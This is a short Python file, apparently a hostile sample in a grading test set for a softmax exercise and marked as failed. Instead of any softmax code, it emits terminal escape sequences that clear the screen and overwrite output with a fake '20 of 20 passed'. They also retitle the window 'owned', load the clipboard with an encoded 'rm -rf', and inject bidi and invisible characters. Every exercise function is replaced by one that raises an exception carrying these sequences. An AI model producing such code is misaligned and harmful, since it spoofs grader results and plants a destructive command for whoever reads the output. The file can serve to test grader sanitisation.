# verdict: failed
# exercise: exercise07_softmax
# example: control sequences of terminals
# Clears the screen, renames the window, fills the clipboard, rings, moves up and overwrites, reverses letters.

import sys

SEQUENCES = (
    "\x1b[2J\x1b[H\x1b[1A\x1b[2K20 of 20\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x1b]8;;http://example.invalid\x07link"
    "\x1bP+q\x1b\\\x9b31m\x08\x08\x0c\x0e\x07\r passed\u202e\u2066\u200b\u2028\u2029\ufeff\x7f\x85\x1b[?1049h\x1bc"
)
sys.stdout.write(SEQUENCES + "\n")
sys.stderr.write(SEQUENCES + "\n")


def attack(*_args, **_kwargs):
    raise type(f"Error{SEQUENCES}", (Exception,), {})(SEQUENCES)


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
